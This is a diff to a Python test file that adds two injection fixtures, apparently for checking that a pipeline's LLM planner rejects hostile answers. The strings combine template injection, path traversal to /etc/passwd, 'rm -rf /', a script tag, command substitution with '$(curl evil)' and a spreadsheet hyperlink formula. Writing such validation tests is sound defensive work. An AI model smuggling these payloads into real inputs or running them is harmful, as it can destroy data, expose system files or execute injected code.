@@ -81,6 +81,12 @@ def write_noise_vfr(path: Path, frames: int = 40, seed: int = 0) -> Path:
     return path
 
 
+# An LLM's answer that is no plain prose: template syntax, a path, shell, markup, a spreadsheet formula. The
+# planner must re-ask and never let it reach a template, a file name or the dataset.
+HOSTILE_INSTRUCTION = "Make it a pencil sketch. {{ 7*7 }} ../../../../etc/passwd; rm -rf / # <script>alert(1)</script>"
+HOSTILE_TARGET = '$(curl evil) `id` {% import os %} =HYPERLINK("http://x")'
+
+
 # Bad flags: each must be refused with one line naming the flag and what is wrong, a non-zero exit, and no
 # run left behind. (flags, what the line says); {tmp} stands for a scratch folder, SRC:<kind> for a wrong
 # --source-dir and BINARY for a binary --config, both made by bad_flag_args.
